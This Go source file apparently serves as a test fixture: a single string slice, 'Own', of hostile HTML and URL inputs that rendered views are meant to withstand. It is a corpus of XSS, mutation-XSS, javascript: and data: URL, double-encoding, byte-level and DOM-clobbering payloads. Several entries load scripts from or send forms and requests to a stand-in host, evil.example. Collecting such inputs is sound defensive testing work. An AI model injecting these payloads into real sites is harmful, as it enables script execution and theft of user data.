//go:build !js

package hostile

import "strings"

// Own are attacks of all kinds that views have to withstand, and what makes
// attacks of harmless text.
var Own = []string{
	// Script, as an element and in attributes.
	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `--><script>alert(1)</script>`,
	`]]><script>alert(1)</script>`, `<script src=//evil.example/x.js></script>`, `<script type=module>import "//evil.example/x.js"</script>`,
	`<script type=importmap>{"imports":{"a":"//evil.example"}}</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["/stolen"]}]}</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`, "<scr\x00ipt>alert(1)</scr\x00ipt>", `<script/x>alert(1)</script >`, `<script>document.write("x")</script>`,
	`</article></section><script>alert(1)</script>`, `</template></latest-news><script>alert(1)</script>`, `</style><script>alert(1)</script>`,
	`</title></textarea></xmp></noscript></iframe><script>alert(1)</script>`, `</time><script>window.pwned=1</script>`,
	`' onmouseover='alert(1)`, `" onmouseover="alert(1)" x="`, "` onmouseover=alert(1) ", `x onmouseover=alert(1) y=`, `" autofocus onfocus="alert(1)`,
	`<img src=x onerror=alert(1)>`, "<img/src=`x`onerror=alert(1)>", `<img src="x` + "`" + `<script>alert(1)</script>"` + "`" + `>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></svg>`,
	`<body onload=alert(1)>`, `<html onclick=alert(1)>`, `<div onclick=alert(1) onpointerover=alert(1) onfocus=alert(1) tabindex=0>x</div>`,
	`<p accesskey=x onclick=alert(1)>x`, `<p style="animation:x 1s" onanimationstart=alert(1)>x`, `<details open ontoggle=alert(1)>x`,
	`<marquee onstart=alert(1)>x`, `<video src=x onerror=alert(1) autoplay>`, `<audio src=x onerror=alert(1) autoplay>`, `<video poster=javascript:alert(1)><source onerror=alert(1) src=x></video>`,
	`<input autofocus onfocus=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`, `<button popovertarget=x>b</button><p popover id=x onbeforetoggle=alert(1)>`,
	// Addresses.
	`javascript:alert(1)`, `JaVa` + "\n" + `ScRiPt:alert(1)`, " \x01javascript:alert(1)", "java\tscript:alert(1)", "\u00a0javascript:alert(1)", "\ufeffjavascript:alert(1)",
	`javascript://example.edu/%0aalert(1)`, `javascript&colon;alert(1)`, `&#106;avascript:alert(1)`, `javascript&#x3A;alert(1)`, `javascript:alert(1)//http://x`, `JAVASCRIPT:alert(1)//.jpg`,
	`view-source:javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>`,
	`vbscript:alert(1)`, `blob:null/alert(1)`, `filesystem:x`, `file:///etc/passwd`, `about:blank`, `ftp://evil.example/x`, `intent://evil.example#Intent;end`, `feed:javascript:alert(1)`,
	`http://evil.example/"onmouseover="alert(1)`, `http://evil.example/?a, javascript:alert(1) 2x`, `http://evil.example/a b 1w, /stolen 9w`, `,/stolen 1w,`, `//evil.example/x.png`, `\\evil.example\x`, `/\evil.example`, `mailto:a@example.edu?body=<script>`, `https://user:pass@evil.example/`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="jav&#x0A;ascript:alert(1)">x</a>`, `<a href=/x ping=//evil.example/ping>x</a>`, `<a href="//evil.example" target=_blank rel=opener>x</a>`, `<a href=x download=evil.exe>x</a>`,
	`<a href="//evil.example" target=latest onclick=alert(1)>x</a>`, `<area href=javascript:alert(1)><map name=x><area href=javascript:alert(1) shape=default></map><img usemap=#x src=x>`,
	// What loads, leads away or asks for input.
	`<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`, `<iframe src=javascript:alert(1)>`, `<frameset><frame src=javascript:alert(1)></frameset>`, `<object data=javascript:alert(1)></object>`, `<embed src=javascript:alert(1)>`, `<portal src=//evil.example>`, `<fencedframe>`,
	`<form action="//evil.example"><button formaction=javascript:alert(1)>x`, `<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>`, `<isindex action=javascript:alert(1) type=image>`, `<input type=image src=/stolen>`,
	`<base href=//evil.example>`, `<base target=evil>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<meta http-equiv=set-cookie content=a=b>`, `<meta name=referrer content=unsafe-url>`,
	`<link rel=stylesheet href=/stolen.css>`, `<link rel=prefetch href=/stolen>`, `<link rel=dns-prefetch href=//evil.example>`, `<link rel=modulepreload href=/stolen.js>`,
	`<style>@import "/stolen.css"; *{background:url(/stolen.png)}</style>`, `<p style="background:url(/stolen.png);position:fixed;inset:0">x`, `<table background=/stolen.png><tr><td background=/stolen.png>x</table>`, `<img src=x srcset="/stolen 1x, javascript:alert(1) 2x" style=x>`, `<picture><source srcset=/stolen><img src=x></picture>`, `<img lowsrc=/stolen dynsrc=/stolen longdesc=javascript:alert(1) src=x>`, `<video poster=/stolen autoplay src=/stolen></video>`, `<track src=/stolen default>`, `<img src=http://evil.example/count.gif width=1 height=1>`,
	// Names.
	`<p id=__proto__ name=submit class=latest-news-link style=position:fixed part=title>x`, `<img name=getElementById src=x><img id=body src=x>`, `<form name=forms><input name=action><input id=attributes></form>`, `<a id=config href=x></a><a id=config name=url href=//evil.example></a>`, `<slot name=x></slot><p slot=x exportparts=title is=latest-news>x`,
	// Markup that parsers read in several ways.
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea></textarea><script>alert(1)</script>`, `<xmp></xmp><img src=x onerror=alert(1)>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`, `<!--><img src=x onerror=alert(1)>-->`, `<!--!><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)> -->`, `<?x ><img src=x onerror=alert(1)>?>`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `</ x="><img src=x onerror=alert(1)>">`, `<a<b href=x>`, `<a href="x"onclick=alert(1)title='">'>x`, `<p/="><img src=x onerror=alert(1)>">`,
	`<template shadowrootmode=open><script>alert(1)</script></template>`, `<template><img src=x onerror=alert(1)></template>`, `<plaintext><script>alert(1)</script>`, `<select><template><img src=x onerror=alert(1)></template></select>`, `<latest-news src=//evil.example></latest-news>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`, `<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>">`, `<svg><title><a id="</title><img src=x onerror=alert(1)>">`, `<table><svg><foreignObject><table><p></table><img src=x onerror=alert(1)>`,
	// What is more dangerous when read twice.
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;img src=x onerror=alert(1)&amp;gt;`, `&lt;img src=x onerror=alert(1)&gt`, `%3Cscript%3Ealert(1)%3C/script%3E`, `{{constructor.constructor("alert(1)")()}}`, `${alert(1)}`, `<b>&lt;img src=x onerror=alert(1)&gt;</b>`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
	// Bytes.
	"\xff\xfe<script>\xc0", "\xc0\xbcscript\xc0\xbealert(1)", "+ADw-script+AD4-alert(1)", "\u202e<script>alert(1)</script>\u2028\x00", "\x1b(J<script>alert(1)</script>", "a\r\nb\rc\x0bd\x0ce\x7f\u0085f\ufffe\U0010ffff", "\xed\xa0\x80\xed\xb0\x80", "<p>\ufeff\u200b<\u0130mg src=x>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u017fcript>alert(1)</\u017fcript>",
	// Values that are no markup.
	`__proto__`, `constructor`, `_blank`, `_self" onclick="alert(1)`, `en" onclick="alert(1)`, `en-US`, `ar`, `x-<b>`, `text/html`, `image/svg+xml`, `-1`, `99999999999999999999`, ` `, "\n\n", `…`, `#`, `?`, `/`, `.`, `//`, `:`, `http:`, `https://`, `x`,
	strings.Repeat(`<div><b><table><td>`, 80) + `<script>alert(1)</script>`, strings.Repeat(`a`, 500) + `<script>alert(1)</script>`, strings.Repeat(`é`, 250) + `"><img src=x onerror=alert(1)>`,
}
